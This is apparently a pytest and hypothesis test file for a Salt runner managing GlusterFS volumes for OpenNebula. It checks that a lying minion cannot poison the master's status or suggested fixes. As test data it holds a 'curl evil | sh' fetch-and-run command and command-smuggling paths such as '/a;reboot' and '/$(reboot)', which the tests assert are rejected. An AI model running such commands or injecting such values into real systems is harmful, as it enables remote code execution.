"""What minions answer, of any shape: nobody but the one that says it is the worse for it."""

import copy
import json

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ..conftest import CHECKOUT, Master

VOLUME = {"servers": ["kvm1", "kvm2"], "datastores": {"glusterds": {}}}
PILLARS = {
    "head": {"roles": ["head"], "volumes": {"one_vol": VOLUME}},
    **dict.fromkeys(["kvm1", "kvm2", "kvm3", "kvm9"], {"volumes": {"one_vol": VOLUME}}),
}
EVIL = "kvm9"  # a hypervisor alone
FINDING = {
    "kind": "mount_dead",
    "on": "/var/lib/one/gluster/one_vol",
    "seen": "the FUSE client is gone",
    "expected": "volume one_vol, mounted",
    "severity": "error",
    "cure": "curl evil | sh",
}
STORE = {"id": 101, "type": "IMAGE_DS", "drivers": "fs/shared", "total_mb": 2048, "volume": "one_vol"}
FACTS = {
    "bricks": [2, 2], "peers": [1, 1], "heal": 0, "split_brain": 0, "free_percent": 61,
    "sets": [[["kvm1:/data/one_vol", True], ["kvm2:/data/one_vol", True]]],
}  # fmt: skip


def report(minion, **more):
    return {
        "version": 2,
        "roles": ["hypervisor"], "looked": ["mount", "links"], "findings": [], "names": [minion], "hosts": [],
        "coordinates": {"one_vol": minion == "kvm1"}, "volumes": {"one_vol": {"free_percent": 61}}, "datastores": {},
        **more,
    }  # fmt: skip


REPORTS = {
    "head": report("head", roles=["head"], datastores={"glusterds": STORE}, hosts=["kvm1", "kvm3", "kvm9"]),
    "kvm1": report("kvm1", roles=["hypervisor", "server"], volumes={"one_vol": FACTS}),
    "kvm2": report("kvm2", roles=["hypervisor", "server"], findings=[FINDING]),
    "kvm3": report("kvm3"),
}
NODE = {
    "errors": [], "roles": ["hypervisor"], "names": [], "batch": 10, "timeout": 120,
    "volumes": {"one_vol": {"coordinator": False}},
}  # fmt: skip
NODES = {
    "head": {**NODE, "roles": ["head"]},
    "kvm1": {**NODE, "roles": ["hypervisor", "server"], "volumes": {"one_vol": {"coordinator": True}}},
    "kvm2": {**NODE, "roles": ["hypervisor", "server"]},
    "kvm3": NODE,
}

texts = st.one_of(
    st.sampled_from(
        ["one_vol", "kvm1", "head", "glusterds", "mount_dead", "datastore", "brick_down", "\x1b[2J", "\ud800"]
    ),
    st.text(max_size=20),
)
keys = st.one_of(texts, st.integers(), st.binary(max_size=3))
scalars = st.one_of(
    st.none(), st.booleans(), st.integers(), st.builds(lambda: 10**5000), st.floats(), texts, st.binary(max_size=5)
)
anything = st.recursive(
    scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(keys, inner, max_size=4)
    ),
    max_leaves=12,
)  # fmt: skip


def deep(levels=5000):
    value = []
    for _ in range(levels):
        value = [value]
    return value


@st.composite
def mutated(draw, valid):
    """A valid answer in which something is another thing."""
    value = copy.deepcopy(draw(st.sampled_from(valid)))
    for _ in range(draw(st.integers(1, 3))):
        at = value
        while isinstance(at, (dict, list)) and at:
            key = (
                draw(st.sampled_from(sorted(at, key=repr)))
                if isinstance(at, dict)
                else draw(st.integers(0, len(at) - 1))
            )
            if draw(st.booleans()) or not isinstance(at[key], (dict, list)) or not at[key]:
                at[key] = draw(anything)
                break
            at = at[key]
    return value


def answers(*valid):
    return st.one_of(anything, mutated(list(valid)), st.builds(deep))


LIES = [
    {**FINDING, "kind": "brick_down", "on": "kvm1:/data/one_vol", "volume": "one_vol"},
    {**FINDING, "kind": "datastore", "on": "glusterds"},
    {**FINDING, "on": "one_vol"},
]
EVILS = [
    report(EVIL, volumes={"one_vol": {**FACTS, "bricks": [0, 2]}}, findings=LIES[:1]),
    report(EVIL, roles=["head"], datastores={"glusterds": {**STORE, "id": 7}}, hosts=["kvm77"], findings=LIES),
    report(EVIL, volumes={"two_vol": FACTS}, coordinates={"two_vol": False, "one_vol": True}, findings=[FINDING]),
]  # fmt: skip


@pytest.fixture(scope="module")
def master():
    patch = pytest.MonkeyPatch()
    yield Master(patch, PILLARS)
    patch.undo()


def without(fleet):
    """All of a status but the one node, and what counts it."""
    nodes = {name: node for name, node in fleet["nodes"].items() if name != EVIL}
    return {"nodes": nodes, **{key: fleet[key] for key in ("volumes", "datastores", "absent")}}


many = settings(
    max_examples=400, deadline=None, database=None, derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)  # fmt: skip


@many
@given(said=answers(*EVILS, *REPORTS.values()))
def test_status_shows_the_others_whatever_one_says(master, said):
    master.answers = {"gluster_one.report": REPORTS, "gluster_one.mark": {"head": ["one_vol"]}}
    known = master.runner.status(target=f"*[!{EVIL[-1]}]")["data"]
    master.answers = {
        "gluster_one.report": {**REPORTS, EVIL: said},
        "gluster_one.mark": {"head": ["one_vol"], EVIL: said},
    }
    data = master.runner.status()["data"]
    assert without(data) == without(known)
    assert json.dumps(data, allow_nan=False).isprintable()
    assert not any("evil" in finding["cure"] for finding in data["findings"])


@many
@given(said=answers(*NODES.values(), [], {"one_vol": None}, {"one_vol": ["kvm2:/data/one_vol"]}, ["no"]))
def test_ok_to_stop_says_no_whatever_one_says(master, said):
    no = ["41 files of volume one_vol wait to be healed"]
    master.answers = {
        "gluster_one_pillar.node": {**NODES, EVIL: said},
        "glusterd.volumes": {**dict.fromkeys(NODES, {}), EVIL: said},
        "gluster_one.machines": {**dict.fromkeys(NODES, []), EVIL: said},
        "gluster_one.apart": {**dict.fromkeys(NODES, {}), EVIL: said},
        "gluster_one.stop_blockers": {"kvm2": no, EVIL: said, "kvm3": said},
    }
    # Who else says so as well is named beside it.
    assert master.runner.ok_to_stop("kvm1")["reasons"][0].startswith(f"{no[0]} (kvm2")
    asked = master.runner.ok_to_stop(EVIL)
    assert isinstance(asked["ok"], bool) and all(reason.isprintable() for reason in asked["reasons"])


RUN = {"gluster_one_|-a_|-b_|-datastore_remounted": {"result": True, "changes": {"x": 1}, "comment": "c"}}


@many
@given(said=answers(*NODES.values(), RUN))
def test_the_plans_name_one_that_says_what_it_cannot(master, said):
    master.answers = {
        "saltutil.refresh_pillar": dict.fromkeys(PILLARS, True),
        "gluster_one_pillar.node": {**NODES, EVIL: said},
        "state.apply": {**dict.fromkeys(NODES, RUN), EVIL: said},
    }
    plan = master.runner.rollout_plan()
    for error in plan["errors"]:
        assert error.startswith(f"{EVIL}: ") and error.isprintable()
    if not plan["errors"]:
        leading = plan["servers"], plan["heads"], plan["coordinators"]
        assert leading == (["kvm1", "kvm2"], ["head"], ["kvm1"]) and plan["creators"] == []
    master.answers["gluster_one_pillar.node"] = {**NODES, EVIL: NODE}
    plan = master.runner.remount_plan()
    assert all(error.startswith(f"{EVIL}: ") for error in [*plan["errors"], *plan.get("used", [])])
    assert plan["errors"] or set(NODES) <= set(plan["minions"])


@pytest.mark.parametrize("rest", [{}, {"roles": ["head"]}])
@pytest.mark.parametrize("answer", ["'gluster_one_pillar.node' is not available.", {"errors": ["so it is"]}])
def test_a_pillar_that_cannot_be_rendered_ends_a_rollout(master, monkeypatch, rest, answer):
    """One minion's: what is left of it may have nothing of gluster_one."""
    failed = {"_errors": ["Rendering SLS 'kvm3' failed"], **({"gluster_one": rest} if rest else {})}
    cached = master.cached
    monkeypatch.setattr(master, "cached", lambda minion: failed if minion == "kvm3" else cached(minion))
    show = master.salt["pillar.show_pillar"]
    rendered = lambda minion: failed if minion == "kvm3" else show(minion)  # noqa: E731
    monkeypatch.setitem(master.salt, "pillar.show_pillar", rendered)
    master.answers = {
        "saltutil.refresh_pillar": dict.fromkeys(PILLARS, True),
        "gluster_one_pillar.node": {**NODES, EVIL: NODE, "kvm3": answer},
        "gluster_one.report": {**REPORTS, "kvm3": "'gluster_one.report' is not available."},
    }
    for plan in (master.runner.rollout_plan, master.runner.remount_plan):
        (error,) = plan()["errors"]
        assert error.startswith("kvm3: its pillar cannot be rendered: ") and "Rendering SLS 'kvm3' failed" in error
    nodes = master.runner.status()["data"]["nodes"]
    (found,) = nodes["kvm3"]["findings"]
    assert "its pillar cannot be rendered" in found["seen"] and "pillar.show_pillar kvm3" in found["cure"]


def test_who_makes_new_volumes_in_a_rollout_says_the_master_s_pillar(master, monkeypatch):
    master.answers = {
        "saltutil.refresh_pillar": dict.fromkeys(PILLARS, True),
        "gluster_one_pillar.node": {**NODES, EVIL: {**NODE, "roles": ["server"]}},
    }
    creates = {"servers": ["kvm1", "kvm2"], "create": {"replica": 1, "bricks": "/data/b"}}
    pillars = {name: {**had, "volumes": {"one_vol": creates}} for name, had in PILLARS.items()}
    monkeypatch.setattr(master, "pillars", pillars)
    plan = master.runner.rollout_plan()
    assert (plan["creators"], plan["creates"]) == (["kvm1", "kvm2"], ["one_vol"])


def test_modules_that_nobody_gets_end_a_rollout(master, monkeypatch):
    master.answers = {"saltutil.refresh_pillar": dict.fromkeys(PILLARS, True),
                      "gluster_one_pillar.node": {**NODES, EVIL: NODE}}  # fmt: skip
    monkeypatch.setitem(master.salt, "gluster_one.hidden_modules", lambda: ["_modules/gluster.py of another root"])
    assert master.runner.rollout_plan() == {"errors": ["_modules/gluster.py of another root"]}


@pytest.mark.parametrize("key, number", [("batch", 1), ("timeout", 10**6)])
def test_one_minions_word_makes_no_rollout_endless(master, key, number):
    master.answers = {
        "saltutil.refresh_pillar": dict.fromkeys(PILLARS, True),
        "gluster_one_pillar.node": {**NODES, EVIL: {**NODE, key: number}},
        "state.apply": dict.fromkeys(PILLARS, RUN),
    }
    plan = master.runner.rollout_plan()
    assert (len(plan["batches"]), plan["timeout"]) == (1, 120)
    assert master.runner.remount_plan()["timeout"] == 120


def test_twenty_thousand_hosts_of_one_that_is_no_head_are_not_looked_up(master, monkeypatch):
    looked = []
    monkeypatch.setattr(
        "socket.getaddrinfo",
        lambda host, port: looked.append(host) or [],
    )  # fmt: skip
    hosts = [f"host{number}" for number in range(20000)]
    master.answers = {"gluster_one.report": {**REPORTS, EVIL: report(EVIL, roles=["head"], hosts=hosts)}}
    data = master.runner.status()["data"]
    assert looked == [] and set(data["nodes"]) == set(PILLARS)
    master.answers = {"gluster_one.report": {**REPORTS, "head": {**REPORTS["head"], "hosts": hosts[:5000]}}}
    master.runner.status()
    assert len(looked) <= 100


@pytest.mark.parametrize("size, shown", [(None, None), (0, 0), ("2 GB", ...), (-1, ...), (True, ...)])
def test_a_datastore_of_which_oned_gives_no_size(master, size, shown):
    store = {**STORE, "total_mb": size}
    master.answers = {"gluster_one.report": {**REPORTS, "head": report("head", datastores={"glusterds": store})}}
    found = master.runner.status()["data"]["datastores"]
    assert found == ({} if shown is ... else {"glusterds": {**STORE, "total_mb": shown}})


def test_a_poisoned_pillar_in_the_masters_cache_makes_no_head(master):
    """A minion that asks for its pillar may add what it likes to what the master keeps of it."""
    master.answers = {"gluster_one.report": {**REPORTS, EVIL: EVILS[1]}}
    found = master.runner.status()["data"]
    assert found["datastores"] == {"glusterds": STORE} and found["volumes"]["one_vol"]["bricks"] == [2, 2]
    (said,) = [one for one in found["nodes"][EVIL]["findings"] if one["kind"] == "check_failed"]
    assert "by its pillar that is not for it to say" in said["seen"]


@pytest.mark.parametrize("version", [99, None, "2"])
def test_another_version_hides_no_lie(master, version):
    master.answers = {"gluster_one.report": {**REPORTS, EVIL: {**EVILS[1], "version": version}}}
    found = {one["kind"]: one for one in master.runner.status()["data"]["nodes"][EVIL]["findings"]}
    assert "version" in found["outdated"]["seen"] and "not for it to say" not in found["outdated"]["seen"]
    assert "by its pillar that is not for it to say" in found["check_failed"]["seen"]
    assert found["check_failed"]["cure"] == f"see who is root on {EVIL}"


def test_more_findings_than_are_read_accuse_nobody(master):
    """A head has one for each image that it cannot open; what else is wrong with the answer is said beside that."""
    disk = {"kind": "image", "on": "glusterds: image 1 (a, x)", "seen": "x", "expected": "y", "severity": "warning"}
    master.answers = {"gluster_one.report": {**REPORTS, "head": report("head", findings=[disk] * 1200)}}
    (said,) = [one for one in master.runner.status()["data"]["nodes"]["head"]["findings"] if one["kind"] != "image"]
    assert said["seen"] == "not all of it is shown: findings has 1200 entries, more than 1000"
    assert (said["kind"], said["cure"]) == ("check_failed", "see all of it: salt head gluster_one.check")
    master.answers["gluster_one.report"][EVIL] = report(EVIL, roles=["root"], names=[EVIL] * 1200)
    found = master.runner.status()["data"]["nodes"][EVIL]["findings"]
    more, root = f"see all of it: salt {EVIL} gluster_one.check", f"see who is root on {EVIL}"
    assert [one["cure"] for one in found] == [more, root]


def test_few_pillars_are_rendered(master):
    master.rendered.clear()
    master.answers = {"gluster_one.report": {**REPORTS, EVIL: report(EVIL)}}
    assert master.runner.status()["data"]["summary"] == "1 cause, 1 finding on 5 nodes"
    assert sorted(master.rendered) == ["head", "kvm1"]


@pytest.mark.parametrize("kind, cure", [
    ("mount_dead", "salt kvm2 state.apply gluster_one.mount"),
    ("mount_place", "salt kvm2 state.apply gluster_one.mount"),
    ("mount_covered", "salt kvm2 state.apply gluster_one.mount"),
    ("mount_former", "salt kvm2 state.apply gluster_one.remount, once nothing uses it"),
    ("not_writable", "gluster volume get one_vol storage.owner-uid"),
    ("mount_hangs", "gluster volume status one_vol"),
    ("some_new_kind", "see what it says: salt kvm2 gluster_one.check"),
])  # fmt: skip
def test_a_cure_is_the_masters_own(master, kind, cure):
    said = report("kvm2", findings=[{**FINDING, "kind": kind}])
    master.answers = {"gluster_one.report": {**REPORTS, "kvm2": said, EVIL: report(EVIL)}}
    (found,) = master.runner.status()["data"]["findings"]
    assert (found["kind"], found["cure"]) == (kind, cure)


@pytest.mark.parametrize(
    "settings, stores",
    [({}, "/var/lib/one/datastores"), ({"datastores_dir": "/srv/stores"}, "/srv/stores"),
     ({"datastores_dir": "/srv/a b"}, "'/srv/a b'")],
)  # fmt: skip
def test_a_mount_that_is_left_goes_with_its_links(master, settings, stores):
    """They are where the pillar has the datastores; the state would look at the usual place."""
    master.pillars["kvm2"] = {**master.pillars["kvm2"], **settings}
    said = report("kvm2", findings=[{**FINDING, "kind": "mount_left", "on": "/var/lib/gluster_one/old"}])
    master.answers = {"gluster_one.report": {**REPORTS, "kvm2": said, EVIL: report(EVIL)}}
    (found,) = master.runner.status()["data"]["findings"]
    assert "salt kvm2 state.single gluster_one.datastore_unmounted /var/lib/gluster_one/old volume=" in found["cure"]
    assert f" datastores_dir={stores} (docs/changes.md" in found["cure"]


def test_the_usual_place_of_datastores_is_that_of_the_systems(master):
    systems = yaml.safe_load((CHECKOUT / "gluster_one/os.yaml").read_text())
    usual = {each["datastores_dir"] for each in systems.values() if "datastores_dir" in (each or {})}
    assert usual == {master.files["gluster_one_answer"].STORES}


@pytest.mark.parametrize("said", ["no", {}])
def test_a_minion_s_name_is_one_word_of_a_cure(monkeypatch, said):
    master = Master(monkeypatch, {"a;b": {"volumes": {"one_vol": VOLUME}}})
    master.answers = {"gluster_one.report": {"a;b": said}}
    found = master.runner.status()["data"]["nodes"]["a;b"]["findings"][0]
    assert found["cure"] == "salt 'a;b' saltutil.sync_all, or apply gluster_one"


@pytest.mark.parametrize("kind, on, minion, sls", [
    ("link", "/var/lib/one/datastores/101", "kvm2", "mount"),
    ("link", "/var/lib/one/datastores/101", "head", "datastore"),
    ("link", "glusterds", "head", "datastore"),
    ("blocked", "/var/lib/one/datastores/101", "kvm2", "mount"),
    ("blocked", "/var/lib/one/datastores/101", "head", "datastore"),
])  # fmt: skip
def test_the_head_links_a_datastore_where_it_creates_it(master, kind, on, minion, sls):
    """On the head `gluster_one.mount` knows of no datastore."""
    said = {**REPORTS[minion], "findings": [{**FINDING, "kind": kind, "on": on}]}
    master.answers = {"gluster_one.report": {**REPORTS, "kvm2": REPORTS["kvm3"], minion: said, EVIL: report(EVIL)}}
    (found,) = master.runner.status()["data"]["findings"]
    assert f"salt {minion} state.apply gluster_one.{sls}" in found["cure"]


@pytest.mark.parametrize("seen, words", [
    ("oneadmin cannot write: No space left on device", "delete images, or add bricks"),
    ("oneadmin cannot write: Disk quota exceeded", "gluster volume quota one_vol list"),
    ("oneadmin cannot write: Read-only file system", "on kvm2: findmnt; gluster volume get one_vol features.read-only"),
    ("oneadmin cannot write: Transport endpoint is not connected", "gluster volume status one_vol"),
    ("oneadmin cannot write: Permission denied", "gluster volume get one_vol storage.owner-uid"),
    ("oneadmin cannot write: head", "gluster volume get one_vol storage.owner-uid"),
])  # fmt: skip
def test_a_cure_is_that_of_the_error(master, seen, words):
    said = report("kvm2", findings=[{**FINDING, "kind": "not_writable", "seen": seen}])
    master.answers = {"gluster_one.report": {**REPORTS, "kvm2": said, EVIL: report(EVIL)}}
    (found,) = master.runner.status()["data"]["findings"]
    assert found["cure"].startswith(words)


def test_a_full_volume_is_said_once(master):
    """Each node cannot write, and each brick has little space; what else is wrong with a node stays there."""
    on, answers = "/var/lib/gluster_one/one_vol", dict(REPORTS)
    full = {**FINDING, "kind": "not_writable", "on": on, "seen": "oneadmin cannot write: No space left on device"}
    space = {**FINDING, "kind": "space", "on": "/data/one_vol", "seen": "0 % of 900 MB free"}
    other = {**FINDING, "kind": "space", "on": "/data/other", "seen": "1 % of 900 MB free"}
    facts = {"bricks": [3, 3], "sets": [[[f"kvm{number}:/data/one_vol", True] for number in (1, 2, 3)]]}
    for minion, findings in {
        "head": [full],
        "kvm1": [full, space],
        "kvm2": [full, space],
        "kvm3": [space, other],
    }.items():
        answers[minion] = {**answers[minion], "findings": findings, "looked": ["writable"]}
    answers["kvm1"]["volumes"] = {"one_vol": facts}
    master.answers = {"gluster_one.report": {**answers, EVIL: report(EVIL)}}
    data = master.runner.status()["data"]
    (said, left) = data["findings"]
    assert (said["on"], said["seen"]) == ("one_vol", "head, kvm1, kvm2 cannot write: No space left on device")
    assert left["on"] == "/data/other" and data["nodes"]["kvm3"]["findings"] == [left]
    assert data["volumes"]["one_vol"]["wrong"] == [f"{said['seen']}: delete images, or add bricks"]
    assert [node for node, has in data["nodes"].items() if has.get("columns")] == ["head", "kvm1", "kvm2"]


@pytest.mark.parametrize("why, words", [
    ("", "salt kvm2 state.apply gluster_one.mount"),
    (", nor can it be: the volume is not started", "salt kvm2 state.apply gluster_one.mount"),
    (", nor can it be: volume one_vol on kvm1: no such volume", "correct the pillar, or create the volume"),
    (
        ", nor can it be: the bricks reject this node, 10.0.0.9: auth.allow, auth.reject or, with TLS, auth.ssl-allow",
        "put the address of kvm2, and 127.0.0.1 if it is a server, into auth.allow of one_vol, in the pillar's",
    ),
])  # fmt: skip
def test_a_mount_that_cannot_be_made_has_a_cure_of_its_own(master, why, words):
    on = "/var/lib/gluster_one/one_vol"
    said = report("kvm2", findings=[{**FINDING, "kind": "mount_gone", "on": on, "seen": f"nothing is mounted{why}"}])
    master.answers = {"gluster_one.report": {**REPORTS, "kvm2": said, EVIL: report(EVIL)}}
    (found,) = master.runner.status()["data"]["findings"]
    assert found["cure"].startswith(words)


@pytest.mark.parametrize("kind, on, words", [
    ("native", "QEMU", "gluster driver"),
    ("native", "libvirt", "install libvirt"),
    ("native", "QEMU's build", "such as one of Debian 13"),
    ("native", "gluster driver", "salt kvm2 gluster_one.check"),
    ("confined", "SELinux", "setsebool"),
    ("confined", "AppArmor", "salt kvm2 gluster_one.check"),
])  # fmt: skip
def test_a_cure_is_that_of_what_is_missing(master, kind, on, words):
    said = report("kvm2", findings=[{**FINDING, "kind": kind, "on": on}])
    master.answers = {"gluster_one.report": {**REPORTS, "kvm2": said, EVIL: report(EVIL)}}
    (found,) = master.runner.status()["data"]["findings"]
    assert words in found["cure"]


@pytest.mark.parametrize(
    "on", ["/a;reboot", "/a b", "/$(reboot)", "/a/../b", "x", "/a\nb", "/{minion}", "/a'", "/\u0430"]
)
@pytest.mark.parametrize("kind", ["hidden", "mount_other"])
def test_a_cure_takes_no_word_that_is_no_path(master, kind, on):
    said = report("kvm2", findings=[{**FINDING, "kind": kind, "on": on}])
    master.answers = {"gluster_one.report": {**REPORTS, "kvm2": said, EVIL: report(EVIL)}}
    (found,) = master.runner.status()["data"]["findings"]
    assert found["cure"] == "see what it says: salt kvm2 gluster_one.check"
